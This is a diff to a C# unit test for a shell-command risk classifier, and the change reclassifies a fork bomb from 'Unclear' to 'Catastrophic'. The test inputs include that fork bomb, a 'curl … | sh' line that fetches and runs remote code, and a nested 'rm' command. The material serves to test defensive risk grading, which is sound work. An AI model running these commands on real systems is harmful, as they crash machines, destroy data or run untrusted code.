@@ -25,7 +25,7 @@ public sealed class CommandRiskTests
     [InlineData("cat <<E\n`git push`\nE", nameof(RiskLevel.Publishing))]
     [InlineData("ls > out.txt", nameof(RiskLevel.Unclear))]
     [InlineData("$CMD x", nameof(RiskLevel.Unclear))]
-    [InlineData(":(){ :|:& };:", nameof(RiskLevel.Unclear))]
+    [InlineData(":(){ :|:& };:", nameof(RiskLevel.Catastrophic))]
     [InlineData("curl https://x.y/z | sh", nameof(RiskLevel.Unclear))]
     [InlineData("bash -c \"bash -c 'bash -c \\\"rm x\\\"'\"", nameof(RiskLevel.Destructive))]
     public void Is_as_strict_as_the_worst_part(string script, string level) => Assert.Equal(level, CommandRisk.Of(script).Risk.Level.ToString());
